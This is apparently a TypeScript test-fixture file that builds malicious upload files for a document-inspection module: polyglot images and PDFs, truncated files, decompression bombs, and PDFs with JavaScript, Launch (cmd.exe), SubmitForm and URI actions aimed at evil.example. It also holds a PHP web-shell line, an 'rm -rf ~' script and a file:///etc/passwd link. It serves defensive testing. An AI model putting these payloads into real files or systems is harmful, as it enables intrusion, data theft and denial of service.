import { deflateSync } from 'node:zlib'
import { PDFDocument } from '@cantoo/pdf-lib'
import { defaultLimits, type Limits } from '@/lib/documents/inspection/limits'
import type { DocumentRefusal } from '@/lib/documents/inspection/refusals'
import { noise } from '../storage/places'
import { animation, chunk, jpeg, png, pngOf, webp, withSegment, zip } from './images'
import { type Objects, onePage, packed, pdf, stream, withCatalog, withPage } from './pdfs'

type Hostile = {
  name: string
  bytes: Buffer
  refusal: DocumentRefusal['kind'] | DocumentRefusal
  limits?: Partial<Limits>
}

const text = (words: string) => Buffer.from(words, 'latin1')
const html = text('<html><script>fetch("//evil.example")</script></html>')
const active = (found: string): DocumentRefusal => ({ kind: 'document-active-content', found })
const action = (entries: string) => withCatalog('', { 4: `<< ${entries} >>` })

/** Files that no honest person sends, each made here, and why it is turned away. */
export async function hostileFiles(): Promise<Hostile[]> {
  return [
    ...otherKinds(),
    ...(await hostileJpegs()),
    ...(await hostilePngs()),
    ...(await hostileWebps()),
    ...(await brokenPdfs()),
    ...activePdfs(),
    ...greedyPdfs(),
  ]
}

function otherKinds(): Hostile[] {
  const notAccepted = (name: string, bytes: Buffer): Hostile => ({ name, bytes, refusal: 'document-kind-not-accepted' })
  const archive = (name: string, beginning: string): Hostile => ({
    name,
    bytes: Buffer.concat([text(beginning), noise(500)]),
    refusal: 'document-is-archive',
  })
  const brand = (name: string) =>
    Buffer.concat([Buffer.from([0, 0, 0, 24]), text(`ftyp${name}\0\0\0\0mif1`), noise(500)])
  return [
    { name: 'nothing', bytes: Buffer.alloc(0), refusal: 'document-empty' },
    {
      name: 'more than may be sent',
      bytes: Buffer.alloc(defaultLimits.bytes + 1),
      refusal: { kind: 'document-too-large', limit: defaultLimits.bytes },
    },
    notAccepted('one byte', Buffer.from([0xff])),
    notAccepted('zeros', Buffer.alloc(10_000)),
    notAccepted('noise', noise(10_000)),
    notAccepted('plain text', text('To whom it may concern')),
    notAccepted('a program, however it is called', Buffer.concat([text('MZ\x90\0'), noise(2000)])),
    notAccepted('a script', text('#!/bin/sh\nrm -rf ~\n')),
    notAccepted('a GIF', text('GIF89a\x01\0\x01\0\x80\0\0')),
    notAccepted('a TIFF', text('II*\0\x08\0\0\0')),
    notAccepted('a BMP', Buffer.concat([text('BM'), noise(500)])),
    notAccepted('an AVIF', brand('avif')),
    notAccepted('a film', brand('isom')),
    notAccepted('an SVG in UTF-16', Buffer.from('\ufeff<svg xmlns="http://www.w3.org/2000/svg"/>', 'utf16le')),
    { name: 'a photo as iPhones store it', bytes: brand('heic'), refusal: 'document-is-heic' },
    { name: 'a HEIF by its general name', bytes: brand('mif1'), refusal: 'document-is-heic' },
    {
      name: 'an SVG that runs',
      bytes: text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
      refusal: 'document-is-svg',
    },
    {
      name: 'an SVG behind a prolog and a comment',
      bytes: text('\xef\xbb\xbf \n<?xml version="1.0"?><!-- photo --><svg/><svg >'),
      refusal: 'document-is-svg',
    },
    { name: 'a web page', bytes: html, refusal: 'document-is-html' },
    {
      name: 'a web page behind spaces and a comment',
      bytes: text('\n\n <!-- x --><HTML><body onload=1>'),
      refusal: 'document-is-html',
    },
    archive('a ZIP', 'PK\x03\x04'),
    archive('a RAR', 'Rar!\x1a\x07'),
    archive('a 7-Zip archive', '7z\xbc\xaf\x27\x1c'),
    archive('a gzip', '\x1f\x8b\x08'),
    archive('an old Word document', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
  ]
}

async function hostileJpegs(): Promise<Hostile[]> {
  const whole = await jpeg()
  const end = text('\xff\xd9')
  const scan = whole.indexOf(Buffer.from([0xff, 0xda]))
  const frame = whole.indexOf(Buffer.from([0xff, 0xc0]))
  const huge = Buffer.from(whole)
  huge.writeUInt16BE(65_500, frame + 5)
  huge.writeUInt16BE(65_500, frame + 7)
  const tables = Buffer.from(whole)
  tables.fill(0xff, whole.indexOf(Buffer.from([0xff, 0xc4])) + 5, whole.indexOf(Buffer.from([0xff, 0xc4])) + 20)
  const after = (name: string, bytes: Buffer, refusal: Hostile['refusal']): Hostile => ({
    name: `a JPEG with ${name} after it`,
    bytes: Buffer.concat([whole, bytes]),
    refusal,
  })
  const inside = (name: string, marker: number, bytes: Buffer): Hostile => ({
    name: `a JPEG with ${name}`,
    bytes: withSegment(whole, marker, bytes),
    refusal: 'document-polyglot',
  })
  return [
    { name: 'half a JPEG', bytes: whole.subarray(0, whole.length / 2), refusal: 'document-truncated' },
    { name: 'a JPEG without its last two bytes', bytes: whole.subarray(0, -2), refusal: 'document-truncated' },
    { name: 'the first three bytes of a JPEG', bytes: whole.subarray(0, 3), refusal: 'document-truncated' },
    {
      name: 'a JPEG that is over before it begins',
      bytes: Buffer.concat([whole.subarray(0, 2), end]),
      refusal: 'document-unreadable',
    },
    {
      name: 'a JPEG of noise',
      bytes: Buffer.concat([text('\xff\xd8\xff\xe0'), noise(9000)]),
      refusal: 'document-truncated',
    },
    {
      name: 'a JPEG with bytes between its segments',
      bytes: Buffer.concat([whole.subarray(0, 2), text('\0\0'), whole.subarray(2)]),
      refusal: 'document-kind-not-accepted',
    },
    { name: 'a JPEG whose tables are impossible', bytes: tables, refusal: 'document-unreadable' },
    {
      name: 'a JPEG that ends in the middle of its picture',
      bytes: Buffer.concat([whole.subarray(0, scan + 200), end]),
      refusal: 'document-unreadable',
    },
    {
      name: 'a JPEG that says it has four billion pixels',
      bytes: huge,
      refusal: { kind: 'document-too-many-pixels', limit: defaultLimits.pixels },
    },
    {
      name: 'a JPEG that is gone over a thousand times',
      bytes: Buffer.concat([
        whole.subarray(0, -2),
        ...Array.from({ length: 1000 }, () => whole.subarray(scan, scan + 40)),
        end,
      ]),
      refusal: 'document-too-complex',
    },
    after('a PDF', pdf(onePage), 'document-polyglot'),
    after('a ZIP', zip, 'document-polyglot'),
    after('a web page', html, 'document-polyglot'),
    after('notes', text('call me later'), 'document-trailing-data'),
    after(
      'a film that is cut off',
      Buffer.concat([Buffer.from([0, 0, 0, 16]), text('ftypmp42\0\0\0\0'), Buffer.from([0, 0, 9, 0]), text('mdat')]),
      'document-trailing-data',
    ),
    inside('a web page as a comment', 0xfe, html),
    inside('the beginning of a PDF as a comment', 0xfe, text('%PDF-1.4 1 0 obj')),
    inside('a ZIP in its application data', 0xed, zip),
    inside('PHP in its description', 0xe1, text('Exif\0\0<?php system($_GET[0]); ?>')),
  ]
}

async function hostilePngs(): Promise<Hostile[]> {
  const whole = await png()
  const badSum = Buffer.from(whole)
  const data = whole.indexOf('IDAT') + 14
  badSum.writeUInt8(badSum.readUInt8(data) ^ 1, data)
  const words = chunk('tEXt', Buffer.concat([text('Comment\0'), html]))
  const control = chunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))
  const line = Buffer.alloc(31)
  return [
    { name: 'half a PNG', bytes: whole.subarray(0, whole.length / 2), refusal: 'document-truncated' },
    { name: 'a PNG without its end', bytes: whole.subarray(0, -12), refusal: 'document-truncated' },
    {
      name: 'a PNG with a chunk longer than the file',
      bytes: Buffer.concat([whole.subarray(0, 33), text('\x7f\xff\xff\xffIDAT'), whole.subarray(41)]),
      refusal: 'document-truncated',
    },
    {
      name: 'a PNG whose header is not first',
      bytes: Buffer.concat([whole.subarray(0, 8), words, whole.subarray(8)]),
      refusal: 'document-unreadable',
    },
    { name: 'a PNG with a bit flipped', bytes: badSum, refusal: 'document-unreadable' },
    {
      name: 'a PNG that unpacks to a hundred gigabytes',
      bytes: pngOf(200_000, 200_000, Buffer.alloc(1_000_000)),
      refusal: 'document-too-many-pixels',
    },
    {
      name: 'a PNG with less picture than it says',
      bytes: pngOf(1000, 1000, Buffer.alloc(3001)),
      refusal: 'document-unreadable',
    },
    { name: 'a PNG that moves', bytes: pngOf(10, 1, line, control), refusal: 'document-animated' },
    { name: 'a PNG with a web page in its words', bytes: pngOf(10, 1, line, words), refusal: 'document-polyglot' },
    { name: 'a PNG with a ZIP after it', bytes: Buffer.concat([whole, zip]), refusal: 'document-polyglot' },
    {
      name: 'a PNG with notes after it',
      bytes: Buffer.concat([whole, text('notes')]),
      refusal: 'document-trailing-data',
    },
  ]
}

async function hostileWebps(): Promise<Hostile[]> {
  const whole = await webp()
  const moving = await animation()
    .webp({ loop: 0, delay: [100, 100] })
    .toBuffer()
  const broken = Buffer.from(whole)
  broken.fill(0, 20, 60)
  return [
    { name: 'half a WebP', bytes: whole.subarray(0, whole.length / 2), refusal: 'document-truncated' },
    { name: 'the first bytes of a WebP', bytes: text('RIFF\x04\0\0\0WEBP'), refusal: 'document-unreadable' },
    { name: 'a WebP that moves', bytes: moving, refusal: 'document-animated' },
    { name: 'a WebP without a picture in it', bytes: broken, refusal: 'document-unreadable' },
    { name: 'a WebP with a web page after it', bytes: Buffer.concat([whole, html]), refusal: 'document-polyglot' },
  ]
}

async function brokenPdfs(): Promise<Hostile[]> {
  const whole = pdf(onePage)
  const locked = await PDFDocument.create()
  locked.addPage()
  locked.encrypt({ userPassword: '', ownerPassword: 'x', permissions: {} })
  const many = await PDFDocument.create()
  for (let page = 0; page <= defaultLimits.pages; page++) many.addPage()
  return [
    { name: 'a PDF behind a web page', bytes: Buffer.concat([html, whole]), refusal: 'document-leading-data' },
    { name: 'a PDF behind spaces', bytes: Buffer.concat([text('  \n'), whole]), refusal: 'document-leading-data' },
    { name: 'half a PDF', bytes: whole.subarray(0, whole.length / 2), refusal: 'document-truncated' },
    {
      name: 'a PDF whose second version is cut off',
      bytes: Buffer.concat([whole, text('3 0 obj\n<< /Type /Page')]),
      refusal: 'document-truncated',
    },
    { name: 'a PDF with a ZIP after it', bytes: Buffer.concat([whole, zip]), refusal: 'document-polyglot' },
    {
      name: 'a PDF with a ZIP after it that ends as a PDF',
      bytes: Buffer.concat([whole, zip, text('\n%%EOF\n')]),
      refusal: 'document-polyglot',
    },
    {
      name: 'a PDF that is a web page too',
      bytes: text(`%PDF-1.7\n%<script>alert(1)</script>\n${whole.toString('latin1')}`),
      refusal: 'document-polyglot',
    },
    {
      name: 'a PDF with notes after it',
      bytes: Buffer.concat([whole, text('notes')]),
      refusal: 'document-trailing-data',
    },
    {
      name: 'a PDF of noise',
      bytes: Buffer.concat([text('%PDF-1.7\n'), noise(5000), text('\n%%EOF')]),
      refusal: 'document-unreadable',
    },
    { name: 'a PDF of no known version', bytes: text('%PDF-X\n%%EOF'), refusal: 'document-unreadable' },
    {
      name: 'a PDF with an object that makes no sense',
      bytes: pdf({ ...onePage, 4: '<< /A [ (' }),
      refusal: 'document-unreadable',
    },
    { name: 'a PDF without a catalog', bytes: pdf({ 2: '<< >>' }), refusal: 'document-unreadable' },
    {
      name: 'a PDF without pages',
      bytes: pdf({ ...onePage, 2: '<< /Type /Pages /Kids [] /Count 0 >>' }),
      refusal: 'document-without-pages',
    },
    {
      name: 'a PDF with one page too many',
      bytes: Buffer.from(await many.save()),
      refusal: { kind: 'document-too-many-pages', limit: defaultLimits.pages },
    },
    { name: 'a PDF with a password', bytes: Buffer.from(await locked.save()), refusal: 'document-encrypted' },
  ]
}

function activePdfs(): Hostile[] {
  const shown = (name: string, bytes: Buffer, refusal: Hostile['refusal']): Hostile => ({
    name: `a PDF with ${name}`,
    bytes,
    refusal,
  })
  const annotation = (entries: string) =>
    withPage('/Annots [4 0 R]', { 4: `<< /Type /Annot /Rect [0 0 9 9] ${entries} >>` })
  const latest = pdf({ ...onePage, 1: '<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /JavaScript /JS (x) >> >> >>' })
  return [
    shown(
      'JavaScript when it opens',
      withCatalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
      active('JavaScript'),
    ),
    shown(
      'JavaScript under a name written otherwise',
      withCatalog('/OpenAction << /S /J#61va#53cript /J#53 (x) >>'),
      active('JavaScript'),
    ),
    shown('a script without the word', action('/S /#52endition /JS (x)'), active('JS')),
    shown(
      'JavaScript among its names',
      withCatalog('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', { 4: '<< /S /JavaScript >>' }),
      active('JavaScript'),
    ),
    shown(
      'JavaScript in packed objects',
      withCatalog('/OpenAction 9 0 R', { 4: packed({ 9: '<< /S /JavaScript /JS (x) >>' }) }),
      active('JavaScript'),
    ),
    shown(
      'a script in packed objects, written otherwise',
      withCatalog('', { 4: packed({ 9: '<< /Next [<< /S /Hide /#4aS (x) >>] >>' }) }),
      active('JS'),
    ),
    shown(
      'JavaScript inside what looks like a picture',
      withPage('', { 4: stream('', text('5 0 obj << /S /JavaScript >> endobj')) }),
      active('JavaScript'),
    ),
    shown('JavaScript in a version that was replaced', Buffer.concat([latest, pdf(onePage)]), active('JavaScript')),
    shown('something to do when a page is shown', withPage('/AA << /O << /S /Named /N /Print >> >>'), active('AA')),
    shown(
      'something to do when a field is left',
      annotation('/Subtype /Widget /FT /Tx /AA << /Bl 5 0 R >>'),
      active('AA'),
    ),
    shown(
      'an address it opens by itself',
      withCatalog('/OpenAction << /S /URI /URI (https://evil.example) >>'),
      active('OpenAction'),
    ),
    shown(
      'an address it opens by itself, elsewhere in the file',
      withCatalog('/OpenAction 4 0 R', { 4: '<< /S /URI /URI (https://evil.example) >>' }),
      active('OpenAction'),
    ),
    shown('a program to start', action('/S /Launch /F (cmd.exe)'), active('Launch')),
    shown('a form that is sent somewhere', action('/S /SubmitForm /F (https://evil.example)'), active('SubmitForm')),
    shown('data that is read in', action('/S /ImportData /F (x.fdf)'), active('ImportData')),
    shown('a way into another file', action('/S /GoToR /F (//evil.example/share)'), active('GoToR')),
    shown(
      'an action named in an object of its own',
      withCatalog('', { 4: '<< /S 5 0 R >>', 5: '/GoToR' }),
      active('GoToR'),
    ),
    shown(
      'a link that runs',
      annotation('/Subtype /Link /A << /S /URI /URI (java\\nscript:alert\\(1\\)) >>'),
      active('URI javascript'),
    ),
    shown(
      'a link to a file',
      annotation('/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>'),
      active('URI file'),
    ),
    shown(
      'an XFA form',
      withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', { 4: stream('', text('<xdp/>')) }),
      active('XFA'),
    ),
    shown('a film', annotation('/Subtype /Screen'), active('Screen')),
    shown('Flash', annotation('/Subtype /RichMedia'), active('RichMedia')),
    shown('a PostScript program', withPage('', { 4: stream('/Subtype /PS', text('showpage')) }), active('PS')),
    shown('a file in it', withCatalog('/Names << /EmbeddedFiles << /Names [] >> >>'), 'document-holds-files'),
    shown(
      'a file pinned to a page',
      annotation('/Subtype /FileAttachment /FS << /F (a.exe) >>'),
      'document-holds-files',
    ),
    shown(
      'a file that it goes with',
      withCatalog('/AF [4 0 R]', { 4: '<< /Type /Filespec /EF << /F 5 0 R >> >>' }),
      'document-holds-files',
    ),
    shown(
      'a stream from another file',
      withPage('', { 4: stream('/F (//evil.example/share)', text('')) }),
      'document-holds-files',
    ),
  ]
}

function greedyPdfs(): Hostile[] {
  const unpackedBytes = 3_000_000
  const filler = deflateSync(Buffer.alloc(2_000_000))
  const flate = (bytes: Buffer) => stream('/Filter /FlateDecode', bytes)
  const many: Objects = Object.fromEntries(Array.from({ length: 5 }, (_, number) => [number + 4, flate(filler)]))
  const levels: Objects = Object.fromEntries(
    Array.from({ length: 30 }, (_, level) => [
      level + 10,
      `<< /Type /Pages /Kids [${`${level + 11} 0 R `.repeat(4)}] >>`,
    ]),
  )
  return [
    {
      name: 'a PDF that unpacks to far more than it is',
      bytes: withPage('/Contents 4 0 R', { 4: flate(deflateSync(Buffer.alloc(4_000_000))) }),
      refusal: 'document-expands-too-much',
      limits: { unpackedBytes },
    },
    {
      name: 'a PDF of which each part unpacks to little and all to much',
      bytes: pdf({ ...onePage, ...many }),
      refusal: 'document-expands-too-much',
      limits: { unpackedBytes },
    },
    {
      name: 'a PDF packed twice',
      bytes: withPage('', {
        4: stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(50_000_000)))),
      }),
      refusal: 'document-expands-too-much',
    },
    {
      name: 'a PDF whose packed objects unpack to too much',
      bytes: pdf({
        ...onePage,
        4: stream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          deflateSync(Buffer.concat([text('9 0 '), Buffer.alloc(4_000_000)])),
        ),
      }),
      refusal: 'document-expands-too-much',
      limits: { unpackedBytes },
    },
    {
      name: 'a PDF with a picture of ten billion pixels',
      bytes: withPage('', { 4: stream('/Subtype /Image /Width 100000 /Height 100000', text('')) }),
      refusal: 'document-too-many-pixels',
    },
    {
      name: 'a PDF nested without end',
      bytes: withPage('', { 4: `${'['.repeat(200_000)}${']'.repeat(200_000)}` }),
      refusal: 'document-unreadable',
    },
    {
      name: 'a PDF whose pages are in each other',
      bytes: pdf({ ...onePage, 2: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' }),
      refusal: 'document-too-complex',
    },
    {
      name: 'a PDF whose pages repeat, to four to the thirtieth',
      bytes: pdf({ ...onePage, 2: '<< /Type /Pages /Kids [10 0 R] /Count 1 >>', ...levels, 40: '<< /Type /Page >>' }),
      refusal: 'document-too-complex',
      limits: { patience: 1500 },
    },
  ]
}
